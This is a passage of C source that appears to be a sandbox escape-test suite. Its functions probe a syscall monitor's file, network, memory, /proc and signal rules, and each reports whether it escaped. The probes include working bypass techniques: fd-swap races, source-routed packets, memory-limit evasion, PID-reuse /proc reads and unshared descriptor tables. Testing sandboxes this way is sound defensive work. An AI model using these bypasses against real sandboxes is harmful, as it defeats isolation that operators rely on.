 * read-only file's descriptor. (The lane chroots into /host, where /proc/self/fd
 * shows /host/...: the mirror is made with and without that prefix.) */
static volatile int ww_stop;
static int ww_fake;
static long ww_swaps;

static void *ww_flooder(void *a) {
	(void)a;
	while (!ww_stop)
		if (fcntl(3, F_GETFD) >= 0 && dup2(ww_fake, 3) == 3)
			ww_swaps++;
	return NULL;
}

static int move_high(int fd, int to) {
	int h = fcntl(fd, F_DUPFD, to);
	close(fd);
	return h;
}

static void mkdirs(char *p) {
	for (char *q = p + 1; *q; q++)
		if (*q == '/') {
			*q = 0;
			mkdir(p, 0755);
			*q = '/';
		}
	mkdir(p, 0755);
}

static void writable_walk_race(const char *ro, const char *rw) {
	char target[512], p[1024], dest[512], fake[512];
	snprintf(target, sizeof target, "%s/marker", ro);
	snprintf(dest, sizeof dest, "%s/target", rw);
	snprintf(fake, sizeof fake, "%s/fake", rw);
	mkdir(dest, 0755);
	const char *prefixes[] = { "", "/host" };
	for (int i = 0; i < 2; i++) {
		snprintf(p, sizeof p, "%s%s%s", fake, prefixes[i], ro);
		mkdirs(p);
		rmdir(p);
		if (symlink(dest, p))
			exit(2);
	}
	ww_fake = move_high(open(fake, O_PATH | O_DIRECTORY), 101);
	int victim = move_high(open(target, O_RDONLY), 100);
	if (ww_fake < 0 || victim < 0)
		exit(2);
	for (int k = 3; k < 100; k++)
		close(k);
	struct stat st;
	fstat(victim, &st);
	mode_t before = st.st_mode & 07777;
	pthread_t t;
	pthread_create(&t, NULL, ww_flooder, NULL);
	int n = 0, denied = 0;
	mode_t after = before;
	for (double end = now() + 8; now() < end && after == before; n++) {
		/* A replacement that landed after a walk ended stays at 3: free it. */
		close(3);
		if (fchmod(victim, 0606))
			denied++;
		fstat(victim, &st);
		after = st.st_mode & 07777;
	}
	ww_stop = 1;
	pthread_join(t, NULL);
	printf("%d fchmods (%d denied), %ld descriptors replaced\n", n, denied, ww_swaps);
	if (after != before)
		escaped("fchmod changed %s, outside the writable tree, from %o to %o", target, before, after);
	contained();
}

/* With --allow-net 0.0.0.0:PORT (the usual way to let a server listen on every
 * address; net rules allow connect too): connect(0.0.0.0:PORT) passes the rule,
 * and the kernel routes the unspecified address to the loopback one. The test
 * listens on 127.0.0.1:PORT, which no rule names. */
static void connect_unspecified(const char *port_s) {
	int port = atoi(port_s);
	struct sockaddr_in lo = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, "127.0.0.1", &lo.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int r = connect(s, (struct sockaddr *)&lo, sizeof lo);
	printf("connect(127.0.0.1:%d): %s\n", port, r ? strerror(errno) : "connected");
	close(s);
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(port) };
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&any, sizeof any) == 0) {
		char got[64] = "", peer[64] = "";
		struct sockaddr_in pa;
		socklen_t l = sizeof pa;
		getpeername(s, (struct sockaddr *)&pa, &l);
		inet_ntop(AF_INET, &pa.sin_addr, peer, sizeof peer);
		struct pollfd p = { .fd = s, .events = POLLIN };
		if (poll(&p, 1, 2000) == 1) {
			ssize_t k = read(s, got, sizeof got - 1);
			got[k > 0 ? k : 0] = 0;
		}
		got[strcspn(got, "\n")] = 0;
		escaped("connect(0.0.0.0:%d) reached %s:%d, which no rule names; it said \"%s\"", port, peer, port, got);
	}
	printf("connect(0.0.0.0:%d): %s\n", port, strerror(errno));
	contained();
}

/* Run under {"limits": {"memory": LIMIT_MIB MiB}}: memory written into a memfd (or
 * any tmpfs file) is the machine's, but no mapping counts it. */
static void memfd_memory(const char *limit_s) {
	size_t limit = strtoul(limit_s, NULL, 0) << 20;
	int fd = syscall(SYS_memfd_create, "hoard", 0);
	if (fd < 0) {
		printf("memfd_create: %s\n", strerror(errno));
		contained();
	}
	static char chunk[1 << 20];
	memset(chunk, 0x5a, sizeof chunk);
	size_t want = 2 * limit, done = 0;
	while (done < want && write(fd, chunk, sizeof chunk) == sizeof chunk)
		done += sizeof chunk;
	struct stat st;
	fstat(fd, &st);
	size_t held = (size_t)st.st_blocks * 512;
	printf("wrote %zu MiB, the memfd holds %zu MiB\n", done >> 20, held >> 20);
	if (held > limit)
		escaped("held %zu MiB of memory in a memfd under a limit of %zu MiB", held >> 20, limit >> 20);
	contained();
}

/* Run with a terminal as stdin (the test's pty): the open file is shared with the
 * shell that started the sandbox. */
static void tty_nonblock(void) {
	if (!isatty(0))
		printf("stdin is not a terminal\n");
	int on = 1;
	int r = ioctl(0, FIONBIO, &on);
	printf("ioctl(0, FIONBIO, 1): %s\n", r ? strerror(errno) : "ok");
	r = fcntl(0, F_SETFL, fcntl(0, F_GETFL) | O_NONBLOCK);
	printf("fcntl(0, F_SETFL, O_NONBLOCK): %s\n", r ? strerror(errno) : "ok");
	int fl = fcntl(0, F_GETFL);
	if (isatty(0) && fl >= 0 && (fl & O_NONBLOCK))
		escaped("the outer terminal's open file (shared with the shell) is now non-blocking");
	contained();
}

/* With --allow-net 127.0.0.1:9 the sandbox shares the host's network namespace, and
 * so its abstract unix names. Autobind is allowed; the test connects from outside. */
static void abstract_autobind(void) {
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa_family_t))) {
		printf("autobind: %s\n", strerror(errno));
		contained();
	}
	socklen_t l = sizeof sa;
	getsockname(s, (struct sockaddr *)&sa, &l);
	if (listen(s, 1)) {
		printf("listen: %s\n", strerror(errno));
		contained();
	}
	int n = l - sizeof(sa_family_t) - 1;
	printf("abstract %.*s\n", n > 0 ? n : 0, sa.sun_path + 1);
	fflush(stdout);
	struct pollfd p = { .fd = s, .events = POLLIN };
	if (poll(&p, 1, 5000) == 1) {
		int c = accept(s, NULL, NULL);
		char got[64] = "";
		if (c >= 0) {
			struct pollfd q = { .fd = c, .events = POLLIN };
			if (poll(&q, 1, 2000) == 1) {
				ssize_t k = read(c, got, sizeof got - 1);
				got[k > 0 ? k : 0] = 0;
			}
			got[strcspn(got, "\n")] = 0;
			escaped("a process outside connected to the autobound abstract socket @%.*s and said \"%s\"", n > 0 ? n : 0, sa.sun_path + 1, got);
		}
	}
	contained();
}

/* ==== round 2 ============================================================================ */

/* With --allow-net 127.0.0.1:9 (the one address any rule names). The socket is
 * connected to 127.0.0.1:9 (allowed), then IP_OPTIONS, which the monitor's list of
 * socket options allows, sets a loose source route through HOP: Linux sends every
 * datagram (and a TCP SYN) to the route's first hop, HOP, with 127.0.0.1 only in the
 * option. Nothing is checked against HOP. The test captures loopback traffic outside
 * and looks for the marker sent to HOP. */
static void ip_source_route(const char *hop) {
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	struct in_addr h;
	if (inet_pton(AF_INET, hop, &h) != 1)
		exit(2);
	unsigned char opt[8] = { 0x83 /* IPOPT_LSRR */, 7, 4 };
	memcpy(opt + 3, &h, 4);
	opt[7] = 0; /* IPOPT_END */
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to)) {
		printf("udp connect(127.0.0.1:9): %s\n", strerror(errno));
		contained();
	}
	int r = setsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, sizeof opt);
	printf("setsockopt(IP_OPTIONS, loose source route via %s): %s\n", hop, r ? strerror(errno) : "ok");
	int sent = 0, err = 0;
	for (int i = 0; i < 5; i++) {
		if (send(s, "DUNE-SRR-MARKER", 15, 0) == 15)
			sent++;
		else
			err = errno;
	}
	printf("udp: sent %d datagrams for 127.0.0.1:9%s%s\n", sent, err ? ", last error " : "", err ? strerror(err) : "");
	/* The same through a control message (IP_RETOPTS) on sendmsg, with no socket
	 * option set: the monitor checks only SCM_RIGHTS among control messages. */
	int s2 = socket(AF_INET, SOCK_DGRAM, 0);
	if (s2 >= 0 && connect(s2, (struct sockaddr *)&to, sizeof to) == 0) {
		union {
			char buf[CMSG_SPACE(sizeof opt)];
			struct cmsghdr align;
		} cb;
		memset(&cb, 0, sizeof cb);
		struct iovec iov = { .iov_base = "DUNE-SRR-CMSG-M", .iov_len = 15 };
		struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cb.buf, .msg_controllen = sizeof cb.buf };
		struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
		cm->cmsg_level = IPPROTO_IP;
		cm->cmsg_type = IP_RETOPTS;
		cm->cmsg_len = CMSG_LEN(sizeof opt);
		memcpy(CMSG_DATA(cm), opt, sizeof opt);
		int n2 = 0;
		err = 0;
		for (int i = 0; i < 5; i++) {
			if (sendmsg(s2, &mh, 0) == 15)
				n2++;
			else
				err = errno;
		}
		printf("udp: sent %d datagrams for 127.0.0.1:9 with an IP_RETOPTS control message%s%s\n", n2, err ? ", last error " : "", err ? strerror(err) : "");
	}
	/* TCP: connect to the allowed address; the SYN goes to HOP. */
	int t = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	r = setsockopt(t, IPPROTO_IP, IP_OPTIONS, opt, sizeof opt);
	int c = connect(t, (struct sockaddr *)&to, sizeof to);
	printf("tcp: IP_OPTIONS %s, connect(127.0.0.1:9): %s\n", r ? strerror(errno) : "ok", c ? strerror(errno) : "connected");
	usleep(300 * 1000);
	fflush(stdout);
	/* Only the outside sees where the packets went. */
	contained();
}

/* With --allow-net 127.0.0.1:PORT, where nothing listens: connect is allowed and
 * refused (RST). Linux then releases the socket's port (and resets its address to
 * 0.0.0.0) but getsockname still shows the old port; the monitor's implicit-bind check
 * for listen reads getsockname, sees a bound socket, and lets listen bind the wildcard
 * address and a port of the kernel's choosing, which no rule names. The test connects
 * from outside to what the socket listens on. */
static void listen_after_refused(const char *port_s) {
	int port = atoi(port_s);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int r = connect(s, (struct sockaddr *)&to, sizeof to);
	printf("connect(127.0.0.1:%d): %s\n", port, r ? strerror(errno) : "connected");
	char a[64] = "";
	int p = port_of(s, a, sizeof a);
	printf("getsockname after it: %s:%d\n", a, p);
	if (listen(s, 4)) {
		printf("listen: %s\n", strerror(errno));
		contained();
	}
	p = port_of(s, a, sizeof a);
	printf("listening %s %d\n", a, p);
	fflush(stdout);
	struct pollfd pf = { .fd = s, .events = POLLIN };
	if (p != port && poll(&pf, 1, 5000) == 1) {
		int c = accept(s, NULL, NULL);
		char got[64] = "";
		if (c >= 0) {
			struct pollfd q = { .fd = c, .events = POLLIN };
			if (poll(&q, 1, 2000) == 1) {
				ssize_t k = read(c, got, sizeof got - 1);
				got[k > 0 ? k : 0] = 0;
			}
			got[strcspn(got, "\n")] = 0;
			escaped("listening on %s:%d, a port no rule names (the rule is 127.0.0.1:%d); a process outside connected and said \"%s\"", a, p, port, got);
		}
	}
	if (p != port)
		escaped("listening on %s:%d, a port no rule names (the rule is 127.0.0.1:%d)", a, p, port);
	contained();
}

/* With --allow-net 127.0.0.1:BPORT (bind) and --allow-net [::1]:PORT: the monitor
 * checks a connect to [::] as [::1], but Linux sends a socket bound to a v4-mapped
 * address to 127.0.0.1 instead (tcp_v6_connect). The test listens on 127.0.0.1:PORT,
 * which no rule names. */
static void connect_v6_unspecified(const char *bport_s, const char *port_s) {
	int bport = atoi(bport_s), port = atoi(port_s);
	int s = socket(AF_INET6, SOCK_STREAM, 0);
	int off = 0;
	setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
	struct sockaddr_in6 b = { .sin6_family = AF_INET6, .sin6_port = htons(bport) };
	inet_pton(AF_INET6, "::ffff:127.0.0.1", &b.sin6_addr);
	int r = bind(s, (struct sockaddr *)&b, sizeof b);
	printf("bind([::ffff:127.0.0.1]:%d): %s\n", bport, r ? strerror(errno) : "ok");
	struct sockaddr_in6 any = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	if (connect(s, (struct sockaddr *)&any, sizeof any) == 0) {
		char got[64] = "", peer[64] = "";
		struct sockaddr_in6 pa;
		socklen_t l = sizeof pa;
		getpeername(s, (struct sockaddr *)&pa, &l);
		inet_ntop(AF_INET6, &pa.sin6_addr, peer, sizeof peer);
		struct pollfd p = { .fd = s, .events = POLLIN };
		if (poll(&p, 1, 2000) == 1) {
			ssize_t k = read(s, got, sizeof got - 1);
			got[k > 0 ? k : 0] = 0;
		}
		got[strcspn(got, "\n")] = 0;
		escaped("connect([::]:%d), checked as [::1]:%d, reached %s:%d (IPv4 loopback), which no rule names; it said \"%s\"", port, port, peer, port, got);
	}
	printf("connect([::]:%d): %s\n", port, strerror(errno));
	contained();
}

/* A sandbox process that dies by a signal leaves its slot in the limits page unless
 * its parent reaps it (process_gone). An orphan is reaped outside (the test is a
 * subreaper here; init elsewhere): its slot, with its pid, stays. The test then makes
 * a process outside with that pid; /proc/<pid> is "the sandbox's" again. */
static void stale_slot_proc(const char *marker) {
	int fds[2];
	if (pipe(fds))
		exit(2);
	pid_t p = fork();
	if (p == 0) {
		pid_t parent = getpid();
		pid_t c = fork();
		if (c == 0) {
			for (int i = 0; i < 500 && getppid() == parent; i++)
				usleep(10 * 1000);
			pid_t me = getpid();
			if (write(fds[1], &me, sizeof me) != sizeof me)
				_exit(2);
			/* Dies by a signal: no exit_group, so no process_gone of its own. */
			kill(getpid(), SIGKILL);
			_exit(3);
		}
		_exit(0);
	}
	close(fds[1]);
	int st;
	waitpid(p, &st, 0);
	pid_t c = 0;
	if (read(fds[0], &c, sizeof c) != sizeof c)
		exit(2);
	printf("orphan %d\n", c);
	fflush(stdout);
	char line[64];
	if (!fgets(line, sizeof line, stdin))
		exit(2);
	const char *what[] = { "cmdline", "environ", "status" };
	int leaked = 0;
	char first[200] = "";
	for (int k = 0; k < 3; k++) {
		char path[64], buf[4096];
		snprintf(path, sizeof path, "/proc/%d/%s", c, what[k]);
		int fd = open(path, O_RDONLY);
		if (fd < 0) {
			printf("open %s: %s\n", path, strerror(errno));
			continue;
		}
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		printf("read %s: %zd%s%s\n", path, n, n < 0 ? " " : "", n < 0 ? strerror(errno) : "");
		if (n > 0) {
			buf[n] = 0;
			for (ssize_t i = 0; i < n; i++)
				if (!buf[i])
					buf[i] = ' ';
			if (strstr(buf, marker) && !leaked) {
				snprintf(first, sizeof first, "%s: %.120s", what[k], buf);
				leaked = 1;
			}
		}
	}
	if (leaked)
		escaped("read /proc/%d of a process outside the sandbox (it reused an orphan's pid): %s", c, first);
	contained();
}

/* Every eventfd, epoll, timerfd, signalfd and inotify descriptor on the machine
 * shares one anonymous inode. The monitor takes a file with no path for the
 * program's own (fds::writable) and lets fchmod and futimens through. */
static void anon_inode_chmod(void) {
	int e = eventfd(0, 0);
	struct stat st;
	fstat(e, &st);
	printf("eventfd inode %lu mode %o mtime %ld\n", (unsigned long)st.st_ino, st.st_mode & 07777, (long)st.st_mtime);
	int r = fchmod(e, 0604);
	printf("fchmod(eventfd, 0604): %s\n", r ? strerror(errno) : "ok");
	struct timespec times[2] = { { 12345, 0 }, { 12345, 0 } };
	r = futimens(e, times);
	printf("futimens(eventfd, 12345): %s\n", r ? strerror(errno) : "ok");
	r = fchown(e, -1, 0);
	printf("fchown(eventfd, -1, 0): %s\n", r ? strerror(errno) : "ok");
	fstat(e, &st);
	printf("now mode %o mtime %ld\n", st.st_mode & 07777, (long)st.st_mtime);
	fflush(stdout);
	/* The test looks at an eventfd of its own, outside. */
	contained();
}

/* Stdin is an open file shared with a process outside that takes SIGIO for it
 * (O_ASYNC, F_SETOWN to itself, SIGIO ignored): F_SETSIG, allowed for any signal the
 * program may send, changes what that owner gets to SIGKILL. The test then writes to
 * the pipe. */
static void fsetsig_shared_file(void) {
	int owner = fcntl(0, F_GETOWN);
	int r = fcntl(0, F_SETSIG, SIGKILL);
	printf("stdin's owner %d; fcntl(0, F_SETSIG, SIGKILL): %s\n", owner, r ? strerror(errno) : "ok");
	printf("ready\n");
	fflush(stdout);
	char line[64];
	/* The test wrote and checked; it says when it is done. */
	if (!fgets(line, sizeof line, stdin))
		exit(2);
	contained();
}

/* RO/devnode is a character device (the test made it, 1:3) in a tree that is
 * isolated (the policy has no "/"): open takes the openat2 fast path, which never
 * asks whether the node is a device a rule names. O_PATH shows it (the walk refuses
 * a device node even for O_PATH); the mount namespace's nodev is what refuses a real
 * open. */
static void fast_open_device(const char *ro) {
	char p[512];
	snprintf(p, sizeof p, "%s/devnode", ro);
	int fd = open(p, O_PATH);
	struct stat st;
	if (fd >= 0 && fstat(fd, &st) == 0 && S_ISCHR(st.st_mode))
		printf("MONITOR BYPASSED: fast-open-device: open(%s, O_PATH) gave a descriptor of the character device %u:%u, which no rule names\n", p, major(st.st_rdev), minor(st.st_rdev));
	else
		printf("open(%s, O_PATH): %s\n", p, fd < 0 ? strerror(errno) : "not a device");
	int rd = open(p, O_RDWR);
	printf("open(%s, O_RDWR): %s\n", p, rd < 0 ? strerror(errno) : "opened");
	if (rd >= 0) {
		char b[4];
		ssize_t n = read(rd, b, sizeof b);
		escaped("opened the device node %s (1:3) for reading and writing, read %zd", p, n);
	}
	contained();
}

/* /proc/self/fd hides the monitor's descriptors (the runtime filters the listing);
 * /proc/self/fdinfo, next to it, lists them and tells what they are. */
static void proc_fdinfo(void) {
	DIR *d = opendir("/proc/self/fdinfo");
	struct dirent *e;
	if (!d) {
		printf("opendir(/proc/self/fdinfo): %s\n", strerror(errno));
		contained();
	}
	int found = 0, first = -1;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		int fd = atoi(e->d_name);
		if (fd != dirfd(d) && fcntl(fd, F_GETFD) < 0 && errno == EBADF) {
			if (first < 0)
				first = fd;
			found++;
		}
	}
	closedir(d);
	if (found) {
		char path[64], buf[512] = "";
		snprintf(path, sizeof path, "/proc/self/fdinfo/%d", first);
		int f = open(path, O_RDONLY);
		ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
		buf[n > 0 ? n : 0] = 0;
		for (char *q = buf; *q; q++)
			if (*q == '\n' || *q == '\t')
				*q = ' ';
		escaped("/proc/self/fdinfo lists %d descriptors the program cannot use (the monitor's); %s: %.200s", found, path, buf);
	}
	contained();
}

/* Arithmetic on the program's numbers that overflows in the monitor: in a build with
 * overflow checks (the debug build the lane runs) it is a panic in ring 0. Each in a
 * child: the parent sees how it ended. */
static void on_usr1(int sig) {
	(void)sig;
}

static void overflow_panic(void) {
	const char *what[] = { "mincore(page, SIZE_MAX, vec)", "a signal on an alternate stack at 0xfffffffffffff000" };
	char crashed[512] = "";
	int n = 0;
	for (int k = 0; k < 2; k++) {
		fflush(stdout);
		pid_t c = fork();
		if (c == 0) {
			if (k == 0) {
				static unsigned char page[4096] __attribute__((aligned(4096)));
				static unsigned char vec[16];
				long r = syscall(SYS_mincore, page, (size_t)-1, vec);
				printf("mincore: %ld (%s)\n", r, r ? strerror(errno) : "ok");
			} else {
				stack_t ss = { .ss_sp = (void *)0xfffffffffffff000ul, .ss_size = 1 << 16 };
				int r = sigaltstack(&ss, NULL);
				struct sigaction sa = { .sa_handler = on_usr1, .sa_flags = SA_ONSTACK };
				sigaction(SIGUSR1, &sa, NULL);
				printf("sigaltstack: %s\n", r ? strerror(errno) : "ok");
				fflush(stdout);
				raise(SIGUSR1);
				printf("the handler ran\n");
			}
			fflush(stdout);
			_exit(0);
		}
		int st = 0;
		double end = now() + 8;
		pid_t w = 0;
		while ((w = waitpid(c, &st, WNOHANG)) == 0 && now() < end)
			usleep(20 * 1000);
		if (w == 0) {
			kill(c, SIGKILL);
			waitpid(c, &st, 0);
			n += snprintf(crashed + n, sizeof crashed - n, "%s%s: the child's monitor hung", n ? "; " : "", what[k]);
			continue;
		}
		printf("%s: child status %#x\n", what[k], st);
		if (WIFSIGNALED(st) && WTERMSIG(st) != SIGSEGV)
			n += snprintf(crashed + n, sizeof crashed - n, "%s%s: the child's monitor died by signal %d", n ? "; " : "", what[k], WTERMSIG(st));
		else if (WIFEXITED(st) && WEXITSTATUS(st) != 0)
			n += snprintf(crashed + n, sizeof crashed - n, "%s%s: the child's monitor exited with %d instead of the program's 0", n ? "; " : "", what[k], WEXITSTATUS(st));
	}
	if (n)
		escaped("%s", crashed);
	contained();
}

/* DIR is outside every tree (builtin policy, RW writable): stat of anything there is
 * refused whether or not it exists. A script in RW whose #! names DIR/present or
 * DIR/absent: the loader checks the interpreter with a plain stat (Path::exists) before
 * the path rules open it, so execve fails differently. */
static int exec_status(const char *script) {
	pid_t c = fork();
	if (c == 0) {
		execl(script, script, (char *)NULL);
		_exit(errno);
	}
	int st = 0;
	waitpid(c, &st, 0);
	return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static void script_interp_oracle(const char *rw, const char *dir) {
	const char *names[] = { "present", "absent" };
	int errs[2], stats[2];
	for (int k = 0; k < 2; k++) {
		char target[512], script[512];
		snprintf(target, sizeof target, "%s/%s", dir, names[k]);
		struct stat st;
		stats[k] = stat(target, &st) ? errno : 0;
		snprintf(script, sizeof script, "%s/probe-%s", rw, names[k]);
		FILE *f = fopen(script, "w");
		if (!f)
			exit(2);
		fprintf(f, "#!%s\n", target);
		fclose(f);
		chmod(script, 0755);
		errs[k] = exec_status(script);
		printf("%s: stat %s, execve of a script naming it: %s\n", target, stats[k] ? strerror(stats[k]) : "ok", strerror(errs[k]));
	}
	if (stats[0] == stats[1] && errs[0] != errs[1])
		escaped("execve tells a file outside every tree exists (%s) from one that does not (%s), where stat says %s for both", strerror(errs[0]), strerror(errs[1]), strerror(stats[0]));
	contained();
}

/* The main thread ends with exit (SYS_exit, not exit_group) while a second thread
 * runs, as Linux allows. /proc/self is then the thread group leader, whose
 * descriptor table is gone: every /proc/self/fd/N reads ENOENT. The monitor takes a
 * descriptor whose path it cannot read for one with no path (a pipe, a socket: the
 * program's own) and lets fchmod, futimens, flock and leases through on it: here a
 * read-only file's. */
static const char *le_ro;
static void *leader_gone_worker(void *arg) {
	(void)arg;
	char target[512], link[64], dest[512];
	snprintf(target, sizeof target, "%s/marker", le_ro);
	/* Wait until the leader has gone: /proc/self/fd/N no longer reads. */
	int fd = open(target, O_RDONLY);
	if (fd < 0) {
		printf("open %s: %s\n", target, strerror(errno));
		exit(2);
	}
	(void)link;
	(void)dest;
	struct stat st;
	fstat(fd, &st);
	mode_t before = st.st_mode & 07777;
	int locks = lock_lines(st.st_ino);
	/* Refused while the leader runs; retried until it has gone. */
	int r = -1, tries = 0;
	for (double end = now() + 3; r && now() < end; tries++) {
		r = fchmod(fd, 0606);
		if (r)
			usleep(20 * 1000);
	}
	printf("fchmod(%s opened read-only, 0606): %s after %d tries\n", target, r ? strerror(errno) : "ok", tries);
	struct timespec times[2] = { { 12345, 0 }, { 12345, 0 } };
	int u = futimens(fd, times);
	printf("futimens(%s, 12345): %s\n", target, u ? strerror(errno) : "ok");
	int l = fcntl(fd, F_SETLEASE, F_RDLCK);
	int leased = lock_lines(st.st_ino) > locks;
	printf("fcntl(F_SETLEASE, F_RDLCK): %s; /proc/locks %s a lease on it\n", l ? strerror(errno) : "ok", leased ? "shows" : "does not show");
	fstat(fd, &st);
	if ((st.st_mode & 07777) != before)
		escaped("fchmod changed %s, in a read-only tree, from %o to %o (the main thread had exited)%s%s", target, before, st.st_mode & 07777, st.st_mtime == 12345 ? "; futimens set its times" : "", leased ? "; a lease holds it" : "");
	if (st.st_mtime == 12345)
		escaped("futimens changed the times of %s, in a read-only tree", target);
	if (leased)
		escaped("a lease on %s, in a read-only tree", target);
	contained();
	return NULL;
}

static void leader_gone(const char *ro) {
	le_ro = ro;
	pthread_t t;
	if (pthread_create(&t, NULL, leader_gone_worker, NULL))
		exit(2);
	fflush(stdout);
	syscall(SYS_exit, 0);
}

/* Run under {"limits": {"memory": LIMIT_MIB MiB}}: the monitor counts accessible
 * mappings, and mprotect(PROT_NONE) takes a range off the count, but the pages stay
 * resident (mprotect frees nothing). Map, fill, protect, repeat. Each step prints
 * what is held; the cgroup's memory.max (limit plus the monitor's room) is the only
 * thing left to stop it. */
static void mprotect_hoard(const char *limit_s) {
	size_t limit = strtoul(limit_s, NULL, 0) << 20, chunk = 8 << 20, held = 0;
	while (held < 3 * limit) {
		char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED) {
			printf("mmap after %zu MiB: %s\n", held >> 20, strerror(errno));
			break;
		}
		memset(p, 0x5a, chunk);
		if (mprotect(p, chunk, PROT_NONE)) {
			printf("mprotect: %s\n", strerror(errno));
			break;
		}
		held += chunk;
		printf("held %zu MiB\n", held >> 20);
		fflush(stdout);
	}
	if (held > limit)
		escaped("%zu MiB resident under a limit of %zu MiB (mapped, written, then PROT_NONE)", held >> 20, limit >> 20);
	contained();
}

/* A thread that is not the leader unshares its descriptor table (close_range with
 * CLOSE_RANGE_UNSHARE, passed through). The monitor still names descriptors through
 * /proc/self/fd/N, which is the leader's table: chmod's "the very file the resolver
 * checked" is whatever the leader holds at that number (here the read-only marker),
 * and fchmod's check of its private duplicate reads the leader's table at the
 * duplicate's number (nothing: "no path", the program's own). */
static int ut_fd = -1;
static volatile int ut_stage;
static const char *ut_ro, *ut_rw;

static void *unshared_worker(void *arg) {
	(void)arg;
	char target[512], plain[512];
	snprintf(target, sizeof target, "%s/marker", ut_ro);
	snprintf(plain, sizeof plain, "%s/plain", ut_rw);
	close(open(plain, O_CREAT | O_WRONLY, 0644));
	long r = syscall(SYS_close_range, 1000, 1000, 2 /* CLOSE_RANGE_UNSHARE */);
	printf("close_range(1000, 1000, CLOSE_RANGE_UNSHARE): %s\n", r ? strerror(errno) : "ok");
	ut_stage = 1;
	while (ut_stage != 2)
		usleep(1000);
	mode_t before = mode_of(target);
	/* chmod by path, of a file in the writable tree. */
	r = chmod(plain, 0604);
	mode_t after = mode_of(target);
	printf("chmod(%s, 0604): %s; %s is %o (was %o), %s is %o\n", plain, r ? strerror(errno) : "ok", target, after, before, plain, mode_of(plain));
	mode_t by_chmod = after;
	/* fchmod of the read-only file itself. */
	int fd = open(target, O_RDONLY);
	r = fchmod(fd, 0606);
	mode_t by_fchmod = mode_of(target);
	printf("fchmod(%s opened read-only, 0606): %s; now %o\n", target, r ? strerror(errno) : "ok", by_fchmod);
	if (by_chmod != before || by_fchmod != by_chmod)
		escaped("%s, in a read-only tree: mode %o; chmod of %s (writable tree) made it %o (the monitor's /proc/self/fd/N named the leader's descriptor); fchmod of it made it %o (its check read the leader's table)", target, before, plain, by_chmod, by_fchmod);
	contained();
	return NULL;
}

static void unshared_fd_table(const char *ro, const char *rw) {
	ut_ro = ro;
	ut_rw = rw;
	char target[512];
	snprintf(target, sizeof target, "%s/marker", ro);
	pthread_t t;
	pthread_create(&t, NULL, unshared_worker, NULL);
	while (ut_stage != 1)
		usleep(1000);
	/* The leader's table: the read-only marker at every number the thread's
	 * resolver may take next. */
	ut_fd = open(target, O_RDONLY);
	for (int i = 0; i < 40; i++)
		dup(ut_fd);
	ut_stage = 2;
	pthread_join(t, NULL);
	contained();
}

/* ==== round 3 ============================================================================ */

/* Accepts one connection on `s` within 5 s and reports where it came from. */
static void accept_from_outside(int s, const char *what) {
	struct pollfd pf = { .fd = s, .events = POLLIN };
	if (poll(&pf, 1, 5000) != 1)
		return;
	struct sockaddr_in6 from;
	socklen_t l = sizeof from;
	int c = accept(s, (struct sockaddr *)&from, &l);
	if (c < 0)
		return;
	char peer[64] = "", got[64] = "";
	inet_ntop(AF_INET6, &from.sin6_addr, peer, sizeof peer);
	struct pollfd q = { .fd = c, .events = POLLIN };
	if (poll(&q, 1, 2000) == 1) {
		ssize_t k = read(c, got, sizeof got - 1);
		got[k > 0 ? k : 0] = 0;
	}
	got[strcspn(got, "\n")] = 0;
	int v4 = IN6_IS_ADDR_V4MAPPED(&from.sin6_addr);
	if (v4)
		escaped("%s: an IPv4 peer (%s) connected, though no rule names an IPv4 address; it said \"%s\"", what, peer, got);
	printf("%s: accepted %s (\"%s\")\n", what, peer, got);
}

/* With --allow-net [::]:PORT (bind and connect for the IPv6 wildcard) or, for PORT 0,
 * --allow-net ::/0 (all IPv6, which the rules say does not cover IPv4): an IPv6 socket
 * bound to [::] is dual-stack on Linux (net.ipv6.bindv6only is 0) and takes IPv4
 * connections to 0.0.0.0:PORT too. The monitor checks [::] against the IPv6 rule only.
 * PORT 0: listen on an unbound IPv6 socket (the implicit bind, checked as [::]:0).
 * The test connects from outside to 127.0.0.1 and the port printed. */
static void v6_wildcard_takes_ipv4(const char *port_s) {
	int port = atoi(port_s);
	int s = socket(AF_INET6, SOCK_STREAM, 0);
	if (s < 0)
		exit(2);
	int off = 0;
	int r = setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof off);
	printf("setsockopt(IPV6_V6ONLY, 0): %s\n", r ? strerror(errno) : "ok");
	if (port) {
		struct sockaddr_in6 b = { .sin6_family = AF_INET6, .sin6_port = htons(port), .sin6_addr = IN6ADDR_ANY_INIT };
		r = bind(s, (struct sockaddr *)&b, sizeof b);
		printf("bind([::]:%d): %s\n", port, r ? strerror(errno) : "ok");
		if (r)
			contained();
	}
	if (listen(s, 4)) {
		printf("listen: %s\n", strerror(errno));
		contained();
	}
	char a[64] = "";
	int p = port_of(s, a, sizeof a);
	printf("listening %s %d\n", a, p);
	fflush(stdout);
	char what[96];
	snprintf(what, sizeof what, "listening on [%s]:%d", a, p);
